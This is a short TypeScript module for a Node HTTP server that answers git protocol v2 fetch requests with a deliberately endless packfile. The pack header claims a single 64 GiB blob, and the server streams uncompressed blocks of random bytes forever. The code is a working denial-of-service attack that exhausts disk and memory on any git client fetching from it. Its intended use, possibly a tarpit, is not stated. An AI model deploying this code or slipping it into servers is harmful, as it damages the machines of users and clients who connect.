import { randomBytes } from 'node:crypto';
import type { ServerResponse } from 'node:http';

/** A pack with one blob of 64 GiB. gitformat-pack(5): seven bits a byte, lowest first, after type and four bits. */
const packBegins = Buffer.from([
  ...Buffer.from('PACK'),
  0,
  0,
  0,
  2,
  0,
  0,
  0,
  1,
  0xb0,
  0x80,
  0x80,
  0x80,
  0x80,
  0x10,
]);
/** zlib (RFC 1950) without compression. */
const zlibBegins = Buffer.from([0x78, 0x01]);
/** What fits into one packet of the sideband. */
const blockSize = 32_768;

/** Answers `fetch` of protocol version 2 (gitprotocol-v2(5)) with a file that does not end. */
export function flood(response: ServerResponse): void {
  response.writeHead(200, { 'content-type': 'application/x-git-upload-pack-result' });
  response.write(packet(Buffer.from('packfile\n')));
  response.write(sideband(Buffer.concat([packBegins, zlibBegins])));
  const more = () => {
    while (response.write(sideband(storedBlock())));
    response.once('drain', more);
  };
  more();
}

/** RFC 1951, 3.2.4: not the last block, not compressed. */
function storedBlock(): Buffer {
  const head = Buffer.alloc(5);
  head.writeUInt16LE(blockSize, 1);
  head.writeUInt16LE(0xffff ^ blockSize, 3);
  return Buffer.concat([head, randomBytes(blockSize)]);
}

function sideband(data: Buffer): Buffer {
  return packet(Buffer.concat([Buffer.from([1]), data]));
}

function packet(data: Buffer): Buffer {
  return Buffer.concat([Buffer.from((data.length + 4).toString(16).padStart(4, '0')), data]);
}
